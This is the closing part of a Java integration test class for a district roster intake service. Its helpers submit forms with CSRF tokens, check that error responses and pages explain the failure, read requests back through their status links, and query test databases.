        return field.equals("districtName") ? text + " " + UUID.randomUUID() : text;
    }

    private static Map<String, String> formWith(String field, String value) {
        Map<String, String> form = new LinkedHashMap<>();
        form.put("districtName", "Form District " + UUID.randomUUID());
        form.put("schools", "Lincoln Elementary");
        form.put("contactName", "Ana Admin");
        form.put("contactEmail", "ana@district.org");
        form.put("sharedRoles", "students");
        form.put("notes", "");
        form.put(field, value);
        return form;
    }

    /**
     * A 4xx must carry a message (naming {@code field} when given); a 5xx or an unexpected status is a problem.
     * Returns the problem or null.
     */
    private static String judge(String name, HttpResponse<String> response, List<Integer> acceptable, String field) {
        int status = response.statusCode();
        if (!acceptable.contains(status)) {
            return name + ": HTTP " + status + " (expected " + acceptable + ") " + abbreviate(response.body());
        }
        if (status >= 400) {
            JsonNode error = parse(response.body());
            if (error == null || error.path("message").asText("").isBlank()) {
                return name + ": HTTP " + status + " without a message: " + abbreviate(response.body());
            }
            if (field != null) {
                List<String> named = new ArrayList<>();
                error.path("errors").forEach(e -> named.add(e.path("field").asText()));
                if (!named.contains(field) || !error.path("message").asText().contains(field)) {
                    return name + ": HTTP 400 does not name the field " + field + ": " + abbreviate(response.body());
                }
            }
        }
        return null;
    }

    /** An error of the form must be a page that says what happened: the expected status, HTML, a message. */
    private static String judgePage(String name, HttpResponse<String> response, int expected) {
        if (response.statusCode() != expected) {
            return name + ": HTTP " + response.statusCode() + " (expected " + expected + ") " + abbreviate(response.body());
        }
        String type = response.headers().firstValue("Content-Type").orElse("");
        String text = response.body() == null ? "" : response.body().replaceAll("<[^>]*>", " ").strip();
        if (!type.startsWith("text/html") || !response.body().contains("id=\"error-message\"") || text.length() < 40) {
            return name + ": HTTP " + expected + " without a page that explains it (" + type + "): " + abbreviate(response.body());
        }
        return null;
    }

    /** An accepted request must read back through its status link with the district name as sent (trimmed). */
    private static String roundTrip(HttpResponse<String> created, ObjectNode sent) throws Exception {
        JsonNode body = parse(created.body());
        String statusUrl = body == null ? null : body.path("statusUrl").asText(null);
        if (statusUrl == null) {
            return "201 without a statusUrl";
        }
        String token = statusUrl.substring(statusUrl.lastIndexOf('/') + 1);
        HttpResponse<String> status = HTTP.send(HttpRequest.newBuilder(URI.create(
                system.stack.serviceUrl(ReliabilityStack.REQUESTS) + "/api/requests/status/" + token)).GET().build(),
                HttpResponse.BodyHandlers.ofString());
        if (status.statusCode() != 200) {
            return "status link answered HTTP " + status.statusCode();
        }
        String name = parse(status.body()).path("districtName").asText();
        String wanted = sent.path("districtName").asText().strip();
        return name.equals(wanted) ? null : "district name read back as \"" + abbreviate(name) + "\", sent \"" + abbreviate(wanted) + "\"";
    }

    private static HttpResponse<String> postJson(String body, String contentType) throws IOException, InterruptedException {
        return postBytes(body.getBytes(StandardCharsets.UTF_8), contentType);
    }

    private static HttpResponse<String> postBytes(byte[] body, String contentType) throws IOException, InterruptedException {
        return HTTP.send(HttpRequest.newBuilder(URI.create(system.stack.serviceUrl(ReliabilityStack.REQUESTS) + "/api/requests"))
                .header("Content-Type", contentType)
                .header("X-Forwarded-For", nextClient())
                .POST(HttpRequest.BodyPublishers.ofByteArray(body)).build(), HttpResponse.BodyHandlers.ofString());
    }

    /** The CSRF cookie of one intake form page and the token of its hidden field. */
    private record FormPage(String cookie, String token) {
    }

    /** Opens the intake form as a browser does: its CSRF cookie and hidden token come with it. */
    private static FormPage openForm() throws IOException, InterruptedException {
        HttpResponse<String> page = HTTP.send(HttpRequest.newBuilder(URI.create(system.stack.serviceUrl(ReliabilityStack.REQUESTS) + "/requests/new"))
                .GET().build(), HttpResponse.BodyHandlers.ofString());
        String cookie = page.headers().allValues("Set-Cookie").stream().filter(c -> c.startsWith("csrf-token="))
                .map(c -> c.substring("csrf-token=".length()).split(";", 2)[0]).findFirst()
                .orElseThrow(() -> new AssertionError("the intake form sets no CSRF cookie"));
        Matcher token = CSRF_FIELD.matcher(page.body());
        if (!token.find()) {
            throw new AssertionError("the intake form has no CSRF field");
        }
        return new FormPage(cookie, token.group(1));
    }

    /** Submits the form as a browser does after opening its page (UTF-8, the page's CSRF token). */
    private static HttpResponse<String> postForm(Map<String, String> form) throws IOException, InterruptedException {
        FormPage page = openForm();
        Map<String, String> withToken = new LinkedHashMap<>(form);
        withToken.put("csrf-token", page.token());
        return postFormBody(encode(withToken), FORM, page);
    }

    private static HttpResponse<String> postFormBody(String body, String contentType, FormPage page) throws IOException, InterruptedException {
        HttpRequest.Builder request = HttpRequest.newBuilder(URI.create(system.stack.serviceUrl(ReliabilityStack.REQUESTS) + "/requests"))
                .header("Content-Type", contentType)
                .header("X-Forwarded-For", nextClient())
                .POST(HttpRequest.BodyPublishers.ofString(body));
        if (page != null) {
            request.header("Cookie", "csrf-token=" + page.cookie());
        }
        return HTTP.send(request.build(), HttpResponse.BodyHandlers.ofString());
    }

    private static String encode(Map<String, String> form) {
        return form.entrySet().stream()
                .map(e -> URLEncoder.encode(e.getKey(), StandardCharsets.UTF_8) + "=" + URLEncoder.encode(e.getValue(), StandardCharsets.UTF_8))
                .collect(Collectors.joining("&"));
    }

    private static long count(String sql, String parameter) throws Exception {
        try (Connection c = DriverManager.getConnection(system.stack.jdbcUrl("integration_requests"), "postgres", "postgres");
                PreparedStatement s = c.prepareStatement(sql)) {
            s.setString(1, parameter);
            try (ResultSet rs = s.executeQuery()) {
                rs.next();
                return rs.getLong(1);
            }
        }
    }

    /** Each submission from its own address, so the intake's rate limit (10 per address per hour) stays out of the way. */
    private static String nextClient() {
        int n = CLIENTS.incrementAndGet();
        return "10." + ((n >> 16) & 0xFF) + "." + ((n >> 8) & 0xFF) + "." + (n & 0xFF);
    }

    private static JsonNode readUser(String userId) throws Exception {
        String token = system.stack.staffOidc().accessToken("reliability-harness", "roster-writer", List.of("support"));
        HttpResponse<String> response = HTTP.send(HttpRequest.newBuilder(URI.create(
                        system.stack.serviceUrl(ReliabilityStack.WRITER) + "/api/users/" + userId))
                .header("Authorization", "Bearer " + token).GET().build(), HttpResponse.BodyHandlers.ofString());
        return response.statusCode() == 200 ? parse(response.body()) : null;
    }

    private static boolean linked(String districtId) throws Exception {
        try (Connection c = DriverManager.getConnection(system.stack.jdbcUrl("sync_fetcher"), "postgres", "postgres");
                PreparedStatement s = c.prepareStatement("SELECT 1 FROM linked_district WHERE district_id = ?")) {
            s.setString(1, districtId);
            try (ResultSet rs = s.executeQuery()) {
                return rs.next();
            }
        }
    }

    private static JsonNode parse(String text) {
        try {
            return text == null || text.isBlank() ? null : JSON.readTree(text);
        } catch (IOException e) {
            return null;
        }
    }

    private static String abbreviate(String text) {
        String oneLine = text == null ? "" : text.replaceAll("\\s+", " ");
        return oneLine.length() <= 160 ? oneLine : oneLine.substring(0, 160) + "…";
    }
}
